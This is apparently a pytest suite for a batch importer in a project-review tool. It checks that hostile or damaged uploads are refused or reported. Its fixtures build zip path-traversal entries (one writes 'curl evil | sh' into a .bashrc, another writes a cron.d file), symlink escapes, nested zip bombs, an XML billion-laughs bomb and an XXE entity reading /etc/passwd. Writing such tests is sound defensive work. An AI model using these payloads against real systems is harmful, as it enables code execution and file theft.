"""Hostile and damaged batches (issue 10 point 3, issue 9 point 7): each ends in a finding or a clear refusal.

Every case is a real batch on disk (a copy of two recommenders of the demo batch with
the fault added) imported through the core or the command line. Each asserts what the
chair reads (the finding's code and the file it names, or the one-line refusal), that
the rest of the batch was imported, and — for refusals — that the review database is
byte for byte what it was.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import tracemalloc
import zipfile
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from reviewer.call import bundled_call
from reviewer.errors import BatchError
from reviewer.importing import sources
from reviewer.importing.forms import bundled_form_fields
from reviewer.importing.importer import import_batch
from reviewer.importing.reader import CheckedBatch, check_batch
from reviewer.rubric import bundled_rubrics

REPO = Path(__file__).resolve().parents[2]
DEMO = REPO / "resources" / "demo" / "batch"
SECRET = "机密-不得读取-7f3a"   # text of files outside the batch: it must never reach the database


# --------------------------------------------------------------------------
# helpers
# --------------------------------------------------------------------------


def _batch(tmp_path: Path) -> Path:
    """Two recommenders of the demo batch (浙江省 7 forms, 宁波市 4 forms)."""
    batch = tmp_path / "批次"
    for name in ("01_浙江省", "02_宁波市"):
        shutil.copytree(DEMO / name, batch / name)
    return batch


def _check(batch: Path) -> CheckedBatch:
    return check_batch(batch, bundled_call(), bundled_form_fields())


def _import(batch: Path, db: Path) -> CheckedBatch:
    return import_batch(batch, db, bundled_call(), bundled_rubrics(), bundled_form_fields()).checked


def _found(checked: CheckedBatch, code: str) -> list[tuple[str, str]]:
    return [(f.file, f.severity.value) for f in checked.findings if f.code == code]


def _secret_docx() -> bytes:
    """A small, valid form whose text is SECRET."""
    form = next((DEMO / "01_浙江省" / "申报书").glob("01_*.docx")).read_bytes()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(form)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "word/document.xml":
                data = data.replace("宋韵".encode(), SECRET.encode())
            dst.writestr(info, data)
    return out.getvalue()


def _zip_folder(folder: Path, target: Path, extra: dict[str, bytes] | None = None, *, stored: bool = False) -> Path:
    """``folder``'s files as a .zip (named as inside the folder), plus raw ``extra`` entries."""
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(target, "w", method) as archive:
        for path in sorted(folder.rglob("*")):
            if path.is_file():
                archive.write(path, path.relative_to(folder).as_posix())
        for name, data in (extra or {}).items():
            archive.writestr(zipfile.ZipInfo(name), data)
    return target


def _db_text(db: Path) -> str:
    with closing(sqlite3.connect(db)) as con:
        rows = con.execute("SELECT path, content FROM document").fetchall()
        rows += con.execute("SELECT code, file || ' ' || params FROM finding").fetchall()
        rows += con.execute("SELECT project_name, applicant FROM declaration").fetchall()
    return "\n".join(f"{a}\t{b}" for a, b in rows)


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _reviewer(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "reviewer", *args], cwd=REPO, capture_output=True, text=True,
                          env={**os.environ, "PYTHONPATH": str(REPO)}, timeout=300)


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder beside the batch, with a secret form and a secret sub-folder."""
    folder = tmp_path / "外部"
    (folder / "私密").mkdir(parents=True)
    (folder / "05_机密.docx").write_bytes(_secret_docx())
    (folder / "私密" / "06_机密.docx").write_bytes(_secret_docx())
    return folder


# --------------------------------------------------------------------------
# paths that leave the batch
# --------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["../../05_逃逸.docx", "申报书/../../05_逃逸.docx", "/etc/05_逃逸.docx",
                                  "C:/Windows/05_逃逸.docx", "C:\\Windows\\05_逃逸.docx", "\\\\server\\share\\05_逃逸.docx",
                                  "//server/share/05_逃逸.docx"])
def test_a_zip_entry_that_leaves_the_batch_is_named_and_never_read(name: str, tmp_path: Path) -> None:
    batch = _batch(tmp_path)
    _zip_folder(batch / "01_浙江省", batch / "01_浙江省.zip", {name: _secret_docx()})
    shutil.rmtree(batch / "01_浙江省")
    db = tmp_path / "review.sqlite"
    checked = _import(batch, db)
    unsafe = [f for f in checked.findings if f.code == "unsafe_path"]
    assert len(unsafe) == 1 and unsafe[0].severity.value == "error"
    assert unsafe[0].file.startswith("01_浙江省/") and "05_逃逸.docx" in unsafe[0].file
    assert "批次之外" in unsafe[0].message("zh") and "outside the batch" in unsafe[0].message("en")
    assert len(checked.declarations) == 11                       # the rest of the batch is all there
    assert SECRET not in _db_text(db) and ".." not in "".join(d.path for x in checked.declarations for d in x.documents)
    assert not (tmp_path / "05_逃逸.docx").exists()


def test_a_dot_dot_that_stays_inside_its_zip_is_read_as_the_file_it_names(tmp_path: Path) -> None:
    batch = _batch(tmp_path)
    form = next((batch / "01_浙江省" / "申报书").glob("07_*.docx"))
    data = form.read_bytes()
    form.unlink()
    _zip_folder(batch / "01_浙江省", batch / "01_浙江省.zip", {f"附件/../申报书/{form.name}": data})
    shutil.rmtree(batch / "01_浙江省")
    checked = _check(batch)
    assert not _found(checked, "unsafe_path")
    seventh = next(d for d in checked.declarations if d.code == "浙江省-07")
    assert [doc.path for doc in seventh.documents] == [f"01_浙江省/申报书/{form.name}"]


def test_symlinks_out_of_the_batch_files_and_folders_are_named_and_never_read(tmp_path: Path, outside: Path) -> None:
    batch = _batch(tmp_path)
    forms = batch / "01_浙江省" / "申报书"
    (forms / "08_外部链接.docx").symlink_to(outside / "05_机密.docx")
    (batch / "01_浙江省" / "附件").symlink_to(outside / "私密", target_is_directory=True)
    (batch / "02_宁波市" / "03_上级").symlink_to(tmp_path, target_is_directory=True)   # a loop back above the batch
    inside = batch / "02_宁波市" / "申报书副本"
    inside.symlink_to(batch / "02_宁波市" / "申报书", target_is_directory=True)        # inside: harmless, read once
    db = tmp_path / "review.sqlite"
    checked = _import(batch, db)
    assert sorted(_found(checked, "unsafe_path")) == [("01_浙江省/申报书/08_外部链接.docx", "error"),
                                                       ("01_浙江省/附件", "error"), ("02_宁波市/03_上级", "error")]
    assert SECRET not in _db_text(db)
    assert len(checked.declarations) == 11


def test_a_batch_zip_whose_entries_climb_out_is_imported_without_them(tmp_path: Path) -> None:
    batch = _batch(tmp_path)
    target = tmp_path / "批次.zip"
    with zipfile.ZipFile(target, "w") as archive:
        for path in sorted(batch.rglob("*")):
            if path.is_file():
                archive.write(path, path.relative_to(batch).as_posix())
        archive.writestr("../../../home/expert/.bashrc", b"curl evil | sh")
    checked = _check(target)
    assert _found(checked, "unsafe_path") == [("../../../home/expert/.bashrc", "error")]
    assert len(checked.declarations) == 11


def test_a_fifo_in_the_batch_does_not_hang_the_import(tmp_path: Path) -> None:
    batch = _batch(tmp_path)
    os.mkfifo(batch / "01_浙江省" / "申报书" / "08_管道.docx")   # reading it would block for ever
    checked = _check(batch)
    assert len(checked.declarations) == 11
    assert all("08_管道" not in doc.path for d in checked.declarations for doc in d.documents)


def test_a_symlink_stored_in_a_zip_is_refused(tmp_path: Path) -> None:
    batch = _batch(tmp_path)
    target = batch / "01_浙江省.zip"
    _zip_folder(batch / "01_浙江省", target)
    shutil.rmtree(batch / "01_浙江省")
    with zipfile.ZipFile(target, "a") as archive:
        link = zipfile.ZipInfo("申报书/08_链接.docx")
        link.external_attr = (0o120777 << 16)
        archive.writestr(link, "/etc/passwd")
    checked = _check(batch)
    assert _found(checked, "unsafe_path") == [("01_浙江省/申报书/08_链接.docx", "error")]
    assert all("08_链接" not in doc.path for d in checked.declarations for doc in d.documents)


def test_packages_never_carry_an_unsafe_file(tmp_path: Path, outside: Path) -> None:
    """Packages are built from what is stored: an unsafe path is neither stored nor listed for them."""
    batch = _batch(tmp_path)
    (batch / "01_浙江省" / "申报书" / "08_外部链接.docx").symlink_to(outside / "05_机密.docx")
    assert all("08_外部链接" not in f.path for f in sources.list_batch(batch))


# --------------------------------------------------------------------------
# damaged and bounded readers
# --------------------------------------------------------------------------


def test_a_member_with_a_bad_crc_is_one_finding_and_the_import_goes_on(tmp_path: Path) -> None:
    batch = _batch(tmp_path)
    target = _zip_folder(batch / "01_浙江省", batch / "01_浙江省.zip", stored=True)
    shutil.rmtree(batch / "01_浙江省")
    with zipfile.ZipFile(target) as archive:
        info = next(i for i in archive.infolist() if "/03_" in i.filename)
        name = info.filename
    raw = bytearray(target.read_bytes())
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    raw[start + info.file_size // 2] ^= 0xFF          # one scratched byte in the middle of the stored form
    target.write_bytes(bytes(raw))
    db = tmp_path / "review.sqlite"
    checked = _import(batch, db)
    unreadable = [f for f in checked.findings if f.code == "unreadable_document"]
    assert [(f.file, f.declaration) for f in unreadable] == [("01_浙江省/" + name, "浙江省-03")]
    assert "光盘划伤" in unreadable[0].message("zh")
    assert len(checked.declarations) == 11 and db.exists()


def test_zips_nested_very_deep_are_refused_without_recursion(tmp_path: Path) -> None:
    batch = _batch(tmp_path)
    data = _secret_docx()
    name = "05_套娃.docx"
    for depth in range(200):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr(name, data)
        data, name = out.getvalue(), f"05_套娃{depth}.zip"
    (batch / "01_浙江省" / "申报书" / name).write_bytes(data)
    checked = _check(batch)
    unreadable = [f for f in checked.findings if f.code == "unreadable_document"]
    assert len(unreadable) == 1 and "嵌套超过" in unreadable[0].message("zh")
    assert unreadable[0].file.startswith("01_浙江省/申报书/05_套娃199/")


def test_a_zip_with_too_many_members_is_refused_as_one_file(tmp_path: Path) -> None:
    batch = _batch(tmp_path)
    target = batch / "01_浙江省" / "申报书" / "05_附件.zip"
    with zipfile.ZipFile(target, "w") as archive:
        for i in range(sources.MAX_MEMBERS + 1):
            archive.writestr(f"f{i}.txt", b"")
    checked = _check(batch)
    assert [(f.code, f.file) for f in checked.findings if f.severity.value == "error"] == [
        ("unreadable_document", "01_浙江省/申报书/05_附件.zip")]
    assert "文件过多" in next(f for f in checked.findings if f.code == "unreadable_document").message("zh")


def test_a_batch_zip_with_too_many_members_is_refused_at_once(tmp_path: Path) -> None:
    target = tmp_path / "批次.zip"
    with zipfile.ZipFile(target, "w") as archive:
        for i in range(sources.MAX_MEMBERS + 1):
            archive.writestr(f"浙江省/{i}.txt", b"")
    with pytest.raises(BatchError) as refused:
        _check(target)
    assert refused.value.code == "batch_too_large" and "批次.zip" in refused.value.message("zh")


def test_a_summary_table_with_a_cell_in_column_xfd_is_read_in_bounded_memory(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    batch = _batch(tmp_path)
    table = batch / "01_浙江省" / "推荐项目汇总表.xlsx"
    workbook = load_workbook(table)
    sheet = workbook.worksheets[0]
    sheet["XFD3"] = "远处的单元格"
    sheet["A1048576"] = "最后一行"
    workbook.save(table)
    tracemalloc.start()
    try:
        checked = _check(batch)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert [d.code for d in checked.declarations if d.recommender == "浙江省"] == [f"浙江省-0{i}" for i in range(1, 8)]
    assert not [f for f in checked.findings if f.severity.value == "error"]
    assert peak < 200 * 1024 * 1024   # 16,384 columns × every row would be gigabytes


def test_an_oversized_form_is_refused_from_its_size_without_being_read(tmp_path: Path) -> None:
    batch = _batch(tmp_path)
    big = batch / "01_浙江省" / "申报书" / "03_超大申报书.docx"
    next((batch / "01_浙江省" / "申报书").glob("03_基层*.docx")).unlink()
    with open(big, "wb") as fh:
        fh.truncate(sources.MAX_MEMBER_BYTES + 1)   # sparse: the disc holds nothing, the size says 200 MB
    opened: list[str] = []

    def audit(event: str, args: tuple[Any, ...]) -> None:
        if event == "open" and isinstance(args[0], (str, os.PathLike)) and os.fspath(args[0]).endswith("03_超大申报书.docx"):
            opened.append(event)

    sys.addaudithook(audit)
    checked = _check(batch)
    assert opened == []
    finding = next(f for f in checked.findings if f.code == "unreadable_document")
    assert finding.file == "01_浙江省/申报书/03_超大申报书.docx" and "文件过大" in finding.message("zh")


def test_a_form_with_an_entity_bomb_is_refused(tmp_path: Path) -> None:
    batch = _batch(tmp_path)
    form = next((batch / "01_浙江省" / "申报书").glob("03_*.docx"))
    bomb = ('<?xml version="1.0"?>\n<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
        + ']>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        '<w:body><w:p><w:r><w:t>&j;</w:t></w:r></w:p></w:body></w:document>')
    out = io.BytesIO()
    with zipfile.ZipFile(form) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, bomb.encode() if info.filename == "word/document.xml" else src.read(info))
    form.write_bytes(out.getvalue())
    checked = _check(batch)
    finding = next(f for f in checked.findings if f.code == "unreadable_document")
    assert finding.file == form.relative_to(batch).as_posix() and finding.declaration == "浙江省-03"


def test_a_summary_table_with_xml_entities_is_refused(tmp_path: Path) -> None:
    batch = _batch(tmp_path)
    table = batch / "02_宁波市" / "推荐项目汇总表.xlsx"
    out = io.BytesIO()
    with zipfile.ZipFile(table) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + data
            dst.writestr(info, data)
    table.write_bytes(out.getvalue())
    checked = _check(batch)
    finding = next(f for f in checked.findings if f.code == "unreadable_document" and f.file.endswith(".xlsx"))
    assert finding.file == "02_宁波市/推荐项目汇总表.xlsx" and "XML 实体" in finding.message("zh")


def test_nul_and_control_characters_in_a_summary_csv_are_removed_and_reported(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    batch = _batch(tmp_path)
    table = batch / "02_宁波市" / "推荐项目汇总表.xlsx"
    workbook = load_workbook(table, read_only=True)
    rows = [["" if v is None else str(v) for v in row] for row in workbook.worksheets[0].iter_rows(values_only=True)]
    workbook.close()
    table.unlink()
    header = next(i for i, row in enumerate(rows) if "项目名称" in row)
    name, applicant = rows[header].index("项目名称"), rows[header].index("申报单位")
    rows[header + 2][name] += "\x00"
    rows[header + 1][applicant] = rows[header + 1][applicant][:2] + "\x0b" + rows[header + 1][applicant][2:]
    text = "\n".join(",".join(row) for row in rows)
    (batch / "02_宁波市" / "推荐项目汇总表.csv").write_text(text, encoding="utf-8")
    db = tmp_path / "review.sqlite"
    checked = _import(batch, db)
    assert _found(checked, "control_characters") == [("02_宁波市/推荐项目汇总表.csv", "warning")]
    assert "2 个" in next(f for f in checked.findings if f.code == "control_characters").message("zh")
    stored = _db_text(db)
    assert "\x00" not in stored and "\x0b" not in stored and rows[header + 2][name][:-1] in stored
    assert not [f for f in checked.findings if f.severity.value == "error"]


def test_control_characters_in_file_names_are_removed_and_reported(tmp_path: Path) -> None:
    batch = _batch(tmp_path)
    form = next((batch / "01_浙江省" / "申报书").glob("03_*.docx"))
    form.rename(form.with_name("03_\x07带响铃的名字.docx"))
    checked = _check(batch)
    assert _found(checked, "control_characters") == [("01_浙江省/申报书/03_带响铃的名字.docx", "warning")]
    third = next(d for d in checked.declarations if d.code == "浙江省-03")
    assert third.documents[0].path == "01_浙江省/申报书/03_带响铃的名字.docx" and third.documents[0].content is not None


# --------------------------------------------------------------------------
# refusals: one line, nothing changed
# --------------------------------------------------------------------------


def _existing_review(tmp_path: Path) -> tuple[Path, str]:
    db = tmp_path / "review.sqlite"
    _import(_batch(tmp_path), db)
    return db, _sha(db)


def test_a_home_folder_is_refused_at_once_and_the_review_is_unchanged(tmp_path: Path) -> None:
    db, before = _existing_review(tmp_path)
    home = tmp_path / "home"
    for i in range(3):
        (home / f"照片{i}" / "2019").mkdir(parents=True)
        (home / f"照片{i}" / "2019" / "a.jpg").write_bytes(b"\xff\xd8")
    result = _reviewer("import", str(home), "--db", str(db))
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1 and "找不到申报批次" in result.stderr
    assert _sha(db) == before


def test_a_folder_holding_two_batches_is_refused_and_the_review_is_unchanged(tmp_path: Path) -> None:
    db, before = _existing_review(tmp_path)
    parent = tmp_path / "parent"
    for name in ("2019第一批", "2019第二批"):
        shutil.copytree(DEMO / "02_宁波市", parent / name / "02_宁波市")
    with pytest.raises(BatchError) as refused:
        _check(parent)
    assert refused.value.code == "batch_ambiguous" and "2019第一批" in refused.value.message("zh")
    assert _sha(db) == before


def test_too_many_files_is_refused_and_the_review_is_unchanged(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    db, before = _existing_review(tmp_path)
    batch = tmp_path / "批次"
    monkeypatch.setattr(sources, "MAX_FILES", 10)   # the real limit is 50,000 files; the rule is the same
    with pytest.raises(BatchError) as refused:
        _import(batch, db)
    assert refused.value.code == "batch_too_many_files"
    assert _sha(db) == before


def test_the_cli_reports_unsafe_paths_in_the_report(tmp_path: Path) -> None:
    batch = _batch(tmp_path)
    _zip_folder(batch / "02_宁波市", batch / "02_宁波市.zip", {"../../../etc/cron.d/evil": b"* * * * * root true"})
    shutil.rmtree(batch / "02_宁波市")
    report = tmp_path / "report.json"
    result = _reviewer("import", str(batch), "--db", str(tmp_path / "r.sqlite"), "--report", str(report))
    assert result.returncode == 0, result.stderr
    findings = json.loads(report.read_text(encoding="utf-8"))["findings"]
    assert [(f["code"], f["severity"], f["file"]) for f in findings if f["code"] == "unsafe_path"] == [
        ("unsafe_path", "error", "02_宁波市/../../../etc/cron.d/evil")]
